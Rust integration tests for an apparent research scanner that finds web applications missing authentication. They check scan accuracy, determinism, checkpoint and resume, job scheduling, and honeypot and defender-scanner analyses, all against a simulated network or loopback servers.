    ObserveSpec, PortScanConfig, Recurrence, ScanSpec, TenantConfig,
};
use nokeys::scanner::{Pipeline, PortScanner, ScanReport, Telemetry};
use std::path::PathBuf;
use std::sync::Arc;

fn universe() -> Arc<Universe> {
    Arc::new(Universe::generate(UniverseConfig::tiny(42)))
}

fn space() -> Cidr {
    UniverseConfig::tiny(42).space
}

fn transport(universe: &Arc<Universe>, fault_rate: f64) -> SimTransport {
    let t = SimTransport::new(Arc::clone(universe));
    if fault_rate > 0.0 {
        t.with_fault_injection(fault_rate)
    } else {
        t
    }
}

fn report_json(report: &ScanReport) -> String {
    serde_json::to_string(report).expect("report serializes")
}

fn study_json(study: &LongevityStudy) -> String {
    serde_json::to_string(study).expect("study serializes")
}

fn checkpoint_path(tag: &str) -> PathBuf {
    std::env::temp_dir().join(format!("nokeys-job-engine-{tag}-{}.json", std::process::id()))
}

/// The reference bytes: the spec's own builder, driven directly.
async fn direct_baseline(universe: &Arc<Universe>, fault_rate: f64) -> (String, String, u64) {
    let telemetry = Telemetry::new();
    let config = ScanSpec::new(vec![space()])
        .to_builder()
        .telemetry(telemetry.clone())
        .build();
    let report = Pipeline::new(config)
        .run(&Client::new(transport(universe, fault_rate)))
        .await
        .expect("direct run");
    (
        report_json(&report),
        telemetry.snapshot().to_json(),
        report.probes_sent,
    )
}

fn scan_job(tenant: &str, parallelism: usize, shards: usize) -> JobSpec {
    let mut scan = ScanSpec::new(vec![space()]);
    scan.parallelism = Some(parallelism);
    scan.shards = Some(shards);
    let mut spec = JobSpec::scan(tenant, scan);
    spec.checkpoint = CheckpointPolicy::Disabled;
    spec
}

/// Engine jobs reproduce the direct pipeline bytes at every
/// (parallelism, shard count, fault rate) combination.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn engine_jobs_match_direct_runs_across_the_matrix() {
    let universe = universe();
    for fault_rate in [0.0, 0.05] {
        let (baseline_report, baseline_snap, _) = direct_baseline(&universe, fault_rate).await;
        for parallelism in [1usize, 8] {
            for shards in [1usize, 4] {
                let engine = JobEngine::new(Client::new(transport(&universe, fault_rate)));
                let handle = engine.submit(scan_job("t0", parallelism, shards));
                let outcome = handle.wait().await.expect("job completes");
                assert_eq!(
                    report_json(outcome.report().expect("scan report")),
                    baseline_report,
                    "report diverged (p{parallelism}, K={shards}, faults {fault_rate})"
                );
                assert_eq!(
                    outcome.telemetry().to_json(),
                    baseline_snap,
                    "telemetry diverged (p{parallelism}, K={shards}, faults {fault_rate})"
                );
            }
        }
    }
}

/// A transport that wedges the sweep of one block until the test opens
/// the gate, so a pause request deterministically lands mid-run.
#[derive(Clone)]
struct GateTransport {
    inner: SimTransport,
    target: Cidr,
    open: tokio::sync::watch::Receiver<bool>,
}

impl Transport for GateTransport {
    type Conn = <SimTransport as Transport>::Conn;

    async fn probe(&self, ep: Endpoint) -> ProbeOutcome {
        self.inner.probe(ep).await
    }

    async fn connect(&self, ep: Endpoint, scheme: Scheme) -> nokeys::http::Result<Self::Conn> {
        self.inner.connect(ep, scheme).await
    }

    async fn sweep_block(&self, block: Cidr, ports: &[u16]) -> BlockSweepResult {
        if block == self.target {
            let mut open = self.open.clone();
            while !*open.borrow_and_update() {
                if open.changed().await.is_err() {
                    break;
                }
            }
        }
        self.inner.sweep_block(block, ports).await
    }
}

/// Pause a running job at a batch boundary, resume it, and get the
/// uninterrupted bytes back — faults on and off.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn paused_and_resumed_job_is_byte_identical() {
    let universe = universe();
    // The sweep order is the seeded shuffle; at 16 blocks per batch,
    // shuffle[32] is the first block of batch 2 — the gate pins the
    // sweep there while batches 0 and 1 drain to the consumer.
    let shuffle = PortScanner::new(PortScanConfig::new(vec![space()])).shuffled_blocks();
    for fault_rate in [0.0, 0.05] {
        let (baseline_report, baseline_snap, _) = direct_baseline(&universe, fault_rate).await;
        let (open_tx, open_rx) = tokio::sync::watch::channel(false);
        let gated = GateTransport {
            inner: transport(&universe, fault_rate),
            target: shuffle[32],
            open: open_rx,
        };
        let engine = JobEngine::new(Client::new(gated));
        let path = checkpoint_path(&format!("pause-f{}", (fault_rate * 100.0) as u32));
        let _ = std::fs::remove_file(&path);
        let mut scan = ScanSpec::new(vec![space()]);
        scan.parallelism = Some(1);
        scan.blocks_per_batch = Some(16);
        let mut spec = JobSpec::scan("t0", scan);
        spec.checkpoint = CheckpointPolicy::Explicit {
            path: path.clone(),
            every: 1,
            resume: false,
        };
        let handle = engine.submit(spec);

        // Both completed batches are processed, batch 2 is wedged.
        while handle.status().expect("status").batches_done < 2 {
            tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        }
        handle.pause().await.expect("pause at the batch boundary");
        let status = handle.status().expect("status");
        assert_eq!(status.state, JobState::Paused);
        assert_eq!(status.batches_done, 2, "paused at the wedged boundary");
        assert!(path.exists(), "pause persisted a checkpoint");

        let mut events = handle.subscribe().expect("subscribe");
        open_tx.send(true).expect("open the gate");
        handle.resume().expect("resume");
        let mut saw_resumed = false;
        let mut batch_seqs = Vec::new();
        loop {
            match events.recv().await.expect("event stream") {
                JobEvent::Resumed { .. } => saw_resumed = true,
                JobEvent::Batch { seq, .. } => batch_seqs.push(seq),
                JobEvent::Completed { .. } => break,
                _ => {}
            }
        }
        assert!(saw_resumed, "resume replays from the checkpoint");
        // 256 blocks at 16 per batch = 16 batches; 0 and 1 ran before
        // the pause, so the resumed leg streams exactly 2..=15.
        assert_eq!(batch_seqs, (2u64..16).collect::<Vec<_>>());

        let outcome = handle.wait().await.expect("job completes");
        assert_eq!(
            report_json(outcome.report().expect("scan report")),
            baseline_report,
            "pause/resume changed the report (faults {fault_rate})"
        );
        assert_eq!(
            outcome.telemetry().to_json(),
            baseline_snap,
            "pause/resume changed the telemetry (faults {fault_rate})"
        );
        let metrics = engine.metrics();
        assert_eq!(metrics.counter("engine.jobs.paused"), 1);
        assert_eq!(metrics.counter("engine.jobs.resumed"), 1);
        let _ = std::fs::remove_file(&path);
    }
}

/// Cancelling a gated (running) job reports `Cancelled` and removes its
/// checkpoint files.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn cancelled_running_job_cleans_up() {
    let universe = universe();
    let shuffle = PortScanner::new(PortScanConfig::new(vec![space()])).shuffled_blocks();
    let (_open_tx, open_rx) = tokio::sync::watch::channel(false);
    let gated = GateTransport {
        inner: transport(&universe, 0.0),
        target: shuffle[32],
        open: open_rx,
    };
    let engine = JobEngine::new(Client::new(gated));
    let path = checkpoint_path("cancel");
    let _ = std::fs::remove_file(&path);
    let mut scan = ScanSpec::new(vec![space()]);
    scan.parallelism = Some(1);
    scan.blocks_per_batch = Some(16);
    let mut spec = JobSpec::scan("t0", scan);
    spec.checkpoint = CheckpointPolicy::Explicit {
        path: path.clone(),
        every: 1,
        resume: false,
    };
    let handle = engine.submit(spec);
    while handle.status().expect("status").batches_done < 2 {
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    }
    handle.cancel().await.expect("cancel running job");
    assert!(matches!(handle.wait().await, Err(JobError::Cancelled(_))));
    assert_eq!(handle.status().expect("status").state, JobState::Cancelled);
    assert!(!path.exists(), "cancel removes checkpoint files");
    assert_eq!(engine.metrics().counter("engine.jobs.cancelled"), 1);
}

/// Two tenants with unequal probe quotas run concurrently: pacing slows
/// the slower tenant but changes no bytes, and probe accounting is
/// exact and order-independent — each job's counters equal the direct
/// run's, and the engine registry holds exactly their sum.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn unequal_tenant_quotas_keep_exact_accounting() {
    let universe = universe();
    let (baseline_report, baseline_snap, direct_probes) = direct_baseline(&universe, 0.0).await;

    let engine = JobEngine::new(Client::new(transport(&universe, 0.0)));
    // Unequal quotas: the slower tenant's bucket forces real pacing
    // while the faster one's burst swallows the whole sweep.
    engine.register_tenant("gold", TenantConfig::rate(2_000_000.0));
    engine.register_tenant("steel", TenantConfig::rate(400_000.0));
    let gold = engine.submit(scan_job("gold", 8, 1));
    let steel = engine.submit(scan_job("steel", 8, 1));
    let gold_outcome = gold.wait().await.expect("gold job");
    let steel_outcome = steel.wait().await.expect("steel job");

    for (tenant, outcome) in [("gold", &gold_outcome), ("steel", &steel_outcome)] {
        assert_eq!(
            report_json(outcome.report().expect("scan report")),
            baseline_report,
            "tenant {tenant} report diverged under quota"
        );
        assert_eq!(
            outcome.telemetry().to_json(),
            baseline_snap,
            "tenant {tenant} telemetry diverged under quota"
        );
        assert_eq!(
            outcome.telemetry().counter("stage1.probes_sent"),
            direct_probes,
            "tenant {tenant} probe accounting diverged"
        );
    }

    // The engine registry absorbed both jobs: totals are the exact sum
    // no matter which job finished first.
    let metrics = engine.metrics();
    assert_eq!(metrics.counter("engine.jobs.submitted"), 2);
    assert_eq!(metrics.counter("engine.jobs.completed"), 2);
    assert_eq!(
        metrics.counter("stage1.probes_sent"),
        2 * direct_probes,
        "engine registry must hold the order-independent sum"
    );
}

/// A recurring observer job reconciles exactly with the
/// `observe_instrumented` (round 1) + `observe_incremental` (rounds
/// 2..N) sequence it schedules.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn recurring_observer_job_reconciles_with_incremental_rescans() {
    let universe = universe();
    let sim = SimTransport::new(Arc::clone(&universe));
    let client = Client::new(sim.clone());
    let scan_config = ScanSpec::new(vec![space()])
        .to_builder()
        .telemetry(Telemetry::new())
        .build();
    let report = Pipeline::new(scan_config)
        .run(&client)
        .await
        .expect("seed scan");
    let vulnerable: Vec<_> = report.vulnerable_findings().cloned().collect();
    assert!(!vulnerable.is_empty(), "tiny universe seeds MAV hosts");

    let interval: i64 = 86_400;
    let rounds: u32 = 4;

    // The direct sequence the recurring job is specified to schedule.
    let direct_telemetry = Telemetry::new();
    let mut config = ObserverConfig {
        interval_secs: interval,
        window_secs: 0,
        ..ObserverConfig::default()
    };
    let mut study = observe_instrumented(
        &direct_telemetry,
        &client,
        &vulnerable,
        &config,
        wire_observer_clock(&sim),
    )
    .await;
    for round in 2..=rounds {
        config.window_secs = interval * i64::from(round - 1);
        let (next, _delta) = observe_incremental(
            &direct_telemetry,
            &client,
            study,
            &config,
            wire_observer_clock(&sim),
        )
        .await;
        study = next;
    }

    let engine =
        JobEngine::new(Client::new(sim.clone())).with_clock(wire_observer_clock(&sim));
    let mut spec = JobSpec::observe("t0", ObserveSpec::new(vulnerable, interval, 0));
    spec.recurrence = Recurrence::Repeat {
        every_secs: 0,
        rounds,
    };
    let handle = engine.submit(spec);
    let outcome = handle.wait().await.expect("observe job");

    assert_eq!(
        study_json(outcome.study().expect("observe study")),
        study_json(&study),
        "recurring job diverged from the incremental sequence"
    );
    assert_eq!(
        outcome.telemetry().to_json(),
        direct_telemetry.snapshot().to_json(),
        "observer telemetry diverged"
    );
    assert_eq!(handle.status().expect("status").rounds_done, rounds);
    assert_eq!(engine.metrics().counter("engine.observe.rounds"), u64::from(rounds));
}
