//! Cross-crate integration: the full scanning pipeline over a simulated
//! universe, checked against the universe's ground truth.

use nokeys::apps::AppId;
use nokeys::netsim::{SimTransport, Universe, UniverseConfig};
use nokeys::scanner::{Pipeline, PipelineConfig, ScanReport};
use std::sync::Arc;

async fn run(seed: u64) -> (SimTransport, ScanReport) {
    let config = UniverseConfig::tiny(seed);
    let transport = SimTransport::new(Arc::new(Universe::generate(config.clone())));
    let client = nokeys::http::Client::new(transport.clone());
    let pipeline = Pipeline::new(PipelineConfig::builder(vec![config.space]).build());
    let report = pipeline.run(&client).await.expect("pipeline failed");
    (transport, report)
}

#[tokio::test]
async fn scan_has_no_false_positives_or_negatives() {
    let (transport, report) = run(99).await;
    let universe = transport.universe();

    // Every finding corresponds to a real host running that application,
    // and the vulnerability verdict matches the deployed configuration.
    for finding in &report.findings {
        let host = universe
            .host(finding.endpoint.ip)
            .expect("finding host exists");
        let (_, actual) = host.awe().expect("finding is an AWE host");
        assert_eq!(finding.app, actual, "misattributed {}", finding.endpoint);
        assert_eq!(
            finding.vulnerable,
            host.is_vulnerable_at_deploy(),
            "wrong verdict for {} ({})",
            finding.endpoint,
            finding.app
        );
    }

    // Every AWE host appears exactly once.
    let truth = universe.hosts().filter(|h| h.awe().is_some()).count();
    assert_eq!(report.findings.len(), truth);
}

#[tokio::test]
async fn fingerprinted_versions_match_deployments() {
    let (transport, report) = run(7).await;
    let universe = transport.universe();
    let mut exact = 0u32;
    let mut checked = 0u32;
    for finding in &report.findings {
        let Some(version) = finding.version else {
            continue;
        };
        let host = universe.host(finding.endpoint.ip).expect("host exists");
        let Some((service, app)) = host.awe() else {
            continue;
        };
        let nokeys::netsim::ServiceKind::Awe { version_index, .. } = service.kind else {
            continue;
        };
        let deployed = nokeys::apps::version_at(app, version_index);
        checked += 1;
        if deployed.triple() == version.triple() {
            exact += 1;
        } else {
            // Knowledge-base matches may return a newer version sharing
            // every asset; it must at least share the newest asset
            // generation (i.e. be close).
            assert!(
                version.triple() > deployed.triple(),
                "{}: fingerprint went backwards",
                finding.endpoint
            );
        }
    }
    assert!(checked > 0);
    assert!(
        exact as f64 / checked as f64 > 0.9,
        "fingerprinting accuracy too low: {exact}/{checked}"
    );
}

#[tokio::test]
async fn reports_are_deterministic_per_seed() {
    let (_, a) = run(1234).await;
    let (_, b) = run(1234).await;
    assert_eq!(a.findings.len(), b.findings.len());
    assert_eq!(a.probes_sent, b.probes_sent);
    let key = |r: &ScanReport| {
        let mut rows: Vec<(String, String, bool)> = r
            .findings
            .iter()
            .map(|f| {
                (
                    f.endpoint.to_string(),
                    f.app.name().to_string(),
                    f.vulnerable,
                )
            })
            .collect();
        rows.sort();
        rows
    };
    assert_eq!(key(&a), key(&b));
}

#[tokio::test]
async fn json_export_round_trips_structurally() {
    let (_, report) = run(5).await;
    let json = serde_json::to_string(&report).expect("serializes");
    let value: serde_json::Value = serde_json::from_str(&json).expect("parses back");
    assert_eq!(
        value["findings"].as_array().expect("array").len(),
        report.findings.len()
    );
    assert!(value["port_stats"].is_object());
}

#[tokio::test]
async fn analysis_tables_render_from_a_real_report() {
    let (transport, report) = run(42).await;
    let t2 = nokeys::analysis::table2::build(&report, 500_000).render();
    assert!(t2.contains("8888"));
    let t3 = nokeys::analysis::table3::build(&report, 20_000, 50).render();
    for app in AppId::in_scope() {
        assert!(t3.contains(app.name()), "{app} missing from table 3");
    }
    let t4 = nokeys::analysis::table4::build(&report, transport.universe().geo(), 5).render();
    assert!(t4.contains("AS"));
    let f1 = nokeys::analysis::fig1::build(&report).render();
    assert!(f1.contains("J-Notebook vulnerable"));
}
