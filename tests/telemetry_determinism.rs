//! Telemetry determinism and reconciliation.
//!
//! The telemetry subsystem records only order-independent quantities
//! (counter sums, fixed-bucket histogram tallies, virtual work units),
//! so a fixed seed must yield a byte-identical [`TelemetrySnapshot`] at
//! any `parallelism` — the same guarantee the [`ScanReport`] already
//! carries — and the counters must agree with the report they were
//! recorded alongside.

use nokeys::netsim::{SimTransport, Universe, UniverseConfig};
use nokeys::scanner::{Pipeline, PipelineConfig, ScanReport, Telemetry, TelemetrySnapshot};
use std::sync::Arc;

async fn run(seed: u64, parallelism: usize) -> (ScanReport, TelemetrySnapshot) {
    let config = UniverseConfig::tiny(seed);
    let transport = SimTransport::new(Arc::new(Universe::generate(config.clone())));
    let client = nokeys::http::Client::new(transport);
    let telemetry = Telemetry::new();
    let pipeline = Pipeline::new(
        PipelineConfig::builder(vec![config.space])
            .parallelism(parallelism)
            .telemetry(telemetry.clone())
            .build(),
    );
    let report = pipeline.run(&client).await.expect("pipeline failed");
    (report, telemetry.snapshot())
}

/// Same seed at parallelism 1 and 8: the snapshot JSON is byte-identical
/// (and so is the report).
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn snapshot_is_byte_identical_across_parallelism() {
    let (report_seq, snap_seq) = run(42, 1).await;
    let (report_par, snap_par) = run(42, 8).await;
    assert_eq!(
        serde_json::to_string(&report_seq).unwrap(),
        serde_json::to_string(&report_par).unwrap(),
        "reports diverged"
    );
    assert_eq!(
        snap_seq.to_json(),
        snap_par.to_json(),
        "telemetry must not depend on parallelism"
    );
}

/// Counter totals reconcile with the scan report's host counts.
#[tokio::test]
async fn counters_reconcile_with_report() {
    let (report, snap) = run(7, 4).await;
    assert_eq!(snap.counter("stage1.probes_sent"), report.probes_sent);
    assert_eq!(
        snap.counter("stage1.addresses_probed"),
        report.addresses_probed
    );
    assert_eq!(
        snap.counter("pipeline.tarpit_excluded"),
        report.excluded_all_ports_open
    );
    assert_eq!(snap.counter("stage2.hits"), report.prefilter_hits);
    assert_eq!(snap.counter("stage2.discarded"), report.prefilter_discarded);
    assert_eq!(snap.counter("stage2.silent"), report.prefilter_silent);
    assert_eq!(
        snap.counter("pipeline.findings"),
        report.findings.len() as u64
    );
    assert_eq!(snap.counter("pipeline.mavs"), report.total_mavs());
    // The virtual clock advanced and per-signature hit counters exist.
    assert!(snap.virtual_clock_units > 0);
    assert!(snap.prefixed_total("stage2.signature.") > 0);
    // The text rendering mentions every section.
    let text = snap.render_text();
    for needle in ["counters", "histograms", "timings", "stage1.probes_sent"] {
        assert!(text.contains(needle), "render_text misses {needle}: {text}");
    }
}
