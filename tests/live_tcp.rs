//! The pipeline over real sockets: serve application models on loopback
//! TCP and scan them with the real-TCP transport — the substitution-free
//! path of the reproduction.

use nokeys::apps::{build_instance, release_history, AppConfig, AppId};
use nokeys::http::server::serve_tcp;
use nokeys::http::transport::TcpTransport;
use nokeys::scanner::plugin::AppHandler;
use nokeys::scanner::{Pipeline, PipelineConfig};
use std::net::Ipv4Addr;
use std::sync::Arc;

async fn serve(app: AppId, vulnerable: bool) -> nokeys::http::server::ServerHandle {
    let history = release_history(app);
    let version = if vulnerable {
        *history
            .iter()
            .rev()
            .find(|v| AppConfig::vulnerable_for(app, v).is_vulnerable(app, v))
            .expect("vulnerable version exists")
    } else {
        *history.last().expect("non-empty")
    };
    let cfg = if vulnerable {
        AppConfig::vulnerable_for(app, &version)
    } else {
        AppConfig::secure_for(app, &version)
    };
    let handler = Arc::new(AppHandler::new(build_instance(app, version, cfg)));
    serve_tcp(Ipv4Addr::LOCALHOST, 0, handler)
        .await
        .expect("bind")
}

#[tokio::test]
async fn pipeline_detects_mavs_over_real_tcp() {
    let vulnerable_gocd = serve(AppId::Gocd, true).await;
    let secure_zeppelin = serve(AppId::Zeppelin, false).await;
    let ports = vec![vulnerable_gocd.port, secure_zeppelin.port];

    let config = PipelineConfig::builder(vec!["127.0.0.1/32".parse().expect("cidr")])
        .ports(ports)
        .exclude_reserved(false)
        .tarpit_port_threshold(3)
        .build();
    let pipeline = Pipeline::new(config);
    let client = nokeys::http::Client::new(TcpTransport::default());
    let report = pipeline.run(&client).await.expect("pipeline failed");

    assert_eq!(report.findings.len(), 2, "both apps identified");
    let gocd = report
        .findings
        .iter()
        .find(|f| f.app == AppId::Gocd)
        .expect("GoCD identified");
    assert!(gocd.vulnerable);
    let zeppelin = report
        .findings
        .iter()
        .find(|f| f.app == AppId::Zeppelin)
        .expect("Zeppelin identified");
    assert!(!zeppelin.vulnerable);
    // Fingerprinting works over real sockets too.
    assert!(zeppelin.version.is_some());

    vulnerable_gocd.shutdown().await;
    secure_zeppelin.shutdown().await;
}

/// Connection pooling is a transport knob, not a semantic one: the same
/// scan with and without it must produce a byte-identical ScanReport,
/// while the pooled run's telemetry shows connections actually reused.
#[tokio::test]
async fn pooled_scan_report_is_byte_identical_to_unpooled() {
    use nokeys::http::PooledTransport;
    use nokeys::scanner::telemetry::{PoolMetrics, Telemetry};

    let server = serve(AppId::Gocd, true).await;
    let ports = vec![server.port];
    let build = || {
        PipelineConfig::builder(vec!["127.0.0.1/32".parse().expect("cidr")])
            .ports(ports.clone())
            .exclude_reserved(false)
            .tarpit_port_threshold(3)
            .build()
    };

    let plain = nokeys::http::Client::new(TcpTransport::default());
    let unpooled_report = Pipeline::new(build()).run(&plain).await.expect("unpooled");

    let telemetry = Telemetry::new();
    let transport = PooledTransport::new(TcpTransport::default())
        .with_observer(PoolMetrics::observer(&telemetry));
    let pooled = nokeys::http::Client::new(transport);
    let pooled_report = Pipeline::new(build()).run(&pooled).await.expect("pooled");

    assert_eq!(
        serde_json::to_string(&unpooled_report).expect("serializes"),
        serde_json::to_string(&pooled_report).expect("serializes"),
        "pooling must not change scan results"
    );
    let snap = telemetry.snapshot();
    assert!(
        snap.counter("transport.pool.miss") >= 1,
        "pooled run dialed at least once"
    );
    assert!(
        snap.counter("transport.pool.hit") >= 1,
        "stage II/III probes of one host share a connection"
    );

    server.shutdown().await;
}

#[tokio::test]
async fn concurrent_portscan_over_real_tcp() {
    let server = serve(AppId::Polynote, true).await;
    let mut config =
        nokeys::scanner::PortScanConfig::new(vec!["127.0.0.1/32".parse().expect("cidr")]);
    config.ports = vec![server.port];
    config.exclude_reserved = false;
    let scanner = nokeys::scanner::PortScanner::new(config);
    let result = scanner
        .scan_concurrent(Arc::new(TcpTransport::default()), 4)
        .await;
    assert_eq!(result.open.len(), 1);
    server.shutdown().await;
}
