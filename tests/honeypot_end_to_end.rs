//! Cross-crate integration: the honeypot study, actor recovery, defender
//! scans and the analysis tables built on top of them.

use nokeys::apps::AppId;
use nokeys::defend::{scanner1, scanner2, Severity};
use nokeys::honeypot::{run_study, Fleet, StudyConfig};

#[tokio::test]
async fn full_study_plus_analysis_tables() {
    let result = run_study(&StudyConfig {
        seed: 77,
        background_noise: true,
    })
    .await;

    // Headline numbers survive a different seed (jitter changes, the
    // calibrated counts do not).
    assert_eq!(result.attacks.len(), 2195);
    assert_eq!(result.actors[0].attack_count, 719);

    let t5 = nokeys::analysis::table5::build(&result).render();
    assert!(t5.contains("1921"), "hadoop attack count in table 5:\n{t5}");
    assert!(t5.contains("2195/122/160"));

    let t6 = nokeys::analysis::table6::build(&result).render();
    assert!(t6.contains("Grav"));
    assert!(t6.contains("355.1 | 355.1"), "Grav timing row:\n{t6}");

    let t7 = nokeys::analysis::table7::build(&result).render();
    assert!(t7
        .lines()
        .nth(3)
        .expect("first data row")
        .contains("Netherlands"));

    let t8 = nokeys::analysis::table8::build(&result).render();
    assert!(t8
        .lines()
        .nth(3)
        .expect("first data row")
        .contains("Serverion"));

    let f3 = nokeys::analysis::fig3::build(&result).render();
    assert!(f3.contains("Hadoop"));

    let f4 = nokeys::analysis::fig4::build(&result).render();
    // Attacker I: 14 IPs on Docker + J-Notebook.
    let first_row = f4.lines().nth(3).expect("attacker I row");
    assert!(first_row.starts_with("I "), "{first_row}");
    assert!(first_row.contains("14"));
    assert!(first_row.contains("Docker + J-Notebook"));
}

#[tokio::test]
async fn defender_study_and_table9() {
    let result = run_study(&StudyConfig {
        seed: 5,
        background_noise: false,
    })
    .await;
    let fleet = Fleet::deploy();
    let s1 = scanner1().scan_fleet(&fleet).await;
    let s2 = scanner2().scan_fleet(&fleet).await;

    assert_eq!(s1.len(), 5, "Scanner 1 finds 5 of 18");
    let s2_vulns = s2
        .iter()
        .filter(|f| f.severity == Severity::Vulnerability)
        .count();
    assert_eq!(s2_vulns, 3, "Scanner 2 finds 3 of 18");

    // Table 9 needs a scan report too; a tiny one suffices here.
    let config = nokeys::netsim::UniverseConfig::tiny(5);
    let transport = nokeys::netsim::SimTransport::new(std::sync::Arc::new(
        nokeys::netsim::Universe::generate(config.clone()),
    ));
    let client = nokeys::http::Client::new(transport);
    let pipeline = nokeys::scanner::Pipeline::new(
        nokeys::scanner::PipelineConfig::builder(vec![config.space]).build(),
    );
    let report = pipeline.run(&client).await.expect("pipeline failed");

    let t9 = nokeys::analysis::table9::build(&report, &result, &s1, &s2, 20_000, 50).render();
    // Spot-check the paper's qualitative findings.
    let row = |app: AppId| {
        t9.lines()
            .find(|l| l.contains(app.name()))
            .unwrap_or_else(|| panic!("{app} missing"))
            .to_string()
    };
    assert!(
        row(AppId::Docker).contains("S1&2"),
        "{}",
        row(AppId::Docker)
    );
    assert!(row(AppId::Consul).contains("S1&2"));
    assert!(
        row(AppId::Hadoop).contains("S1"),
        "Hadoop vulnerable only in S1"
    );
    assert!(row(AppId::Jenkins).contains("S2"));
    assert!(row(AppId::JupyterLab).contains("✗"), "J-Lab missed by both");
    assert!(row(AppId::Nomad).contains("✗"));
}

#[tokio::test]
async fn attack_free_honeypots_stay_vulnerable_and_uncompromised() {
    let result = run_study(&StudyConfig {
        seed: 3,
        background_noise: true,
    })
    .await;
    // 11 of the 18 applications saw zero attacks in the study.
    let attacked: std::collections::BTreeSet<AppId> =
        result.attacks.iter().map(|a| a.app).collect();
    assert_eq!(attacked.len(), 7);
    for app in [AppId::Gocd, AppId::Zeppelin, AppId::Polynote, AppId::Ajenti] {
        assert!(!attacked.contains(&app));
        // No restore was ever needed for them.
        assert!(
            result.restores.iter().all(|r| r.app != app),
            "{app} restored?"
        );
    }
}
