//! Crash-safe checkpointing: a scan killed mid-run and resumed from its
//! checkpoint must produce a `ScanReport` and telemetry snapshot
//! byte-identical to an uninterrupted run — at any parallelism, with or
//! without injected transport faults. The kill is modeled honestly with
//! [`KillableTransport`]: after a budget of network operations every
//! further one hangs forever (a process cannot observe its own
//! `kill -9`), and the test aborts the wedged pipeline task before
//! resuming a fresh one from whatever checkpoint the dead run left on
//! disk.
//!
//! Fault-injected runs deliberately skip the `fault.*` observer bridge:
//! bridged fault counters count injected faults (including those of the
//! killed run's lost work) rather than processed work, so they sit
//! outside the byte-identity guarantee.

use nokeys::http::Client;
use nokeys::netsim::observer_clock::wire_observer_clock;
use nokeys::netsim::{KillSwitch, KillableTransport, SimTransport, Universe, UniverseConfig};
use nokeys::scanner::observer::{
    observe_instrumented, observe_incremental, ObservedStatus, ObserverConfig,
};
use nokeys::scanner::{Pipeline, PipelineConfig, ScanReport, Telemetry, TelemetrySnapshot};
use std::path::PathBuf;
use std::sync::Arc;

fn checkpoint_path(tag: &str) -> PathBuf {
    std::env::temp_dir().join(format!(
        "nokeys-checkpoint-{tag}-{}.json",
        std::process::id()
    ))
}

fn config(
    space: nokeys::netsim::Cidr,
    parallelism: usize,
    telemetry: &Telemetry,
    checkpoint: Option<&PathBuf>,
) -> PipelineConfig {
    let mut builder = PipelineConfig::builder(vec![space])
        .parallelism(parallelism)
        .retries(3)
        .telemetry(telemetry.clone());
    if let Some(path) = checkpoint {
        builder = builder.checkpoint_path(path.clone()).checkpoint_every(2);
    }
    builder.build()
}

fn transport(universe: &Arc<Universe>, fault_rate: f64) -> SimTransport {
    let t = SimTransport::new(Arc::clone(universe));
    if fault_rate > 0.0 {
        t.with_fault_injection(fault_rate)
    } else {
        t
    }
}

/// One uninterrupted run, optionally checkpointed.
async fn run_plain(
    universe: &Arc<Universe>,
    space: nokeys::netsim::Cidr,
    parallelism: usize,
    fault_rate: f64,
    checkpoint: Option<&PathBuf>,
) -> (ScanReport, TelemetrySnapshot) {
    let telemetry = Telemetry::new();
    let pipeline = Pipeline::new(config(space, parallelism, &telemetry, checkpoint));
    let client = Client::new(transport(universe, fault_rate));
    let report = pipeline.run(&client).await.expect("pipeline failed");
    (report, telemetry.snapshot())
}

/// Start a checkpointed run over a transport that wedges after `budget`
/// network operations, abort it once it wedges, then resume a fresh
/// pipeline (fresh transport, fresh telemetry registry) from the
/// checkpoint — or from scratch if the killed run died before writing
/// one.
async fn run_killed_then_resumed(
    universe: &Arc<Universe>,
    space: nokeys::netsim::Cidr,
    parallelism: usize,
    fault_rate: f64,
    budget: u64,
    path: &PathBuf,
) -> (ScanReport, TelemetrySnapshot) {
    let _ = std::fs::remove_file(path);

    let switch = KillSwitch::after(budget);
    let doomed = KillableTransport::new(transport(universe, fault_rate), switch.clone());
    let telemetry = Telemetry::new();
    let pipeline = Pipeline::new(config(space, parallelism, &telemetry, Some(path)));
    let client = Client::new(doomed);
    let mut task = tokio::spawn(async move { pipeline.run(&client).await });
    tokio::select! {
        // The usual case: the budget runs out mid-scan and some network
        // operation hangs. Kill the process model: abort, don't unwind.
        _ = switch.tripped() => {
            task.abort();
            let _ = task.await;
        }
        // A generous budget can let the run finish first; the resume
        // below then exercises the warm path instead.
        result = &mut task => {
            result.expect("pipeline task").expect("pipeline failed");
        }
    }

    let telemetry = Telemetry::new();
    let pipeline = Pipeline::new(config(space, parallelism, &telemetry, Some(path)));
    let client = Client::new(transport(universe, fault_rate));
    let report = if path.exists() {
        pipeline.resume(&client, path).await.expect("resume failed")
    } else {
        // Killed before the first checkpoint write: nothing to resume.
        pipeline.run(&client).await.expect("fresh run failed")
    };
    let snapshot = telemetry.snapshot();
    let _ = std::fs::remove_file(path);
    (report, snapshot)
}

fn report_json(report: &ScanReport) -> String {
    serde_json::to_string(report).expect("report serializes")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn checkpointing_does_not_change_an_uninterrupted_run() {
    let universe_config = UniverseConfig::tiny(42);
    let universe = Arc::new(Universe::generate(universe_config.clone()));
    for (parallelism, fault_rate) in [(1, 0.0), (8, 0.0), (8, 0.05)] {
        let path = checkpoint_path(&format!("plain-p{parallelism}-f{fault_rate}"));
        let (clean, clean_snap) =
            run_plain(&universe, universe_config.space, parallelism, fault_rate, None).await;
        let (checked, checked_snap) = run_plain(
            &universe,
            universe_config.space,
            parallelism,
            fault_rate,
            Some(&path),
        )
        .await;
        let _ = std::fs::remove_file(&path);
        assert_eq!(
            report_json(&clean),
            report_json(&checked),
            "checkpoint writes changed the report (p{parallelism}, faults {fault_rate})"
        );
        assert_eq!(
            clean_snap.to_json(),
            checked_snap.to_json(),
            "checkpoint writes changed the telemetry (p{parallelism}, faults {fault_rate})"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn killed_and_resumed_scan_is_byte_identical() {
    let universe_config = UniverseConfig::tiny(42);
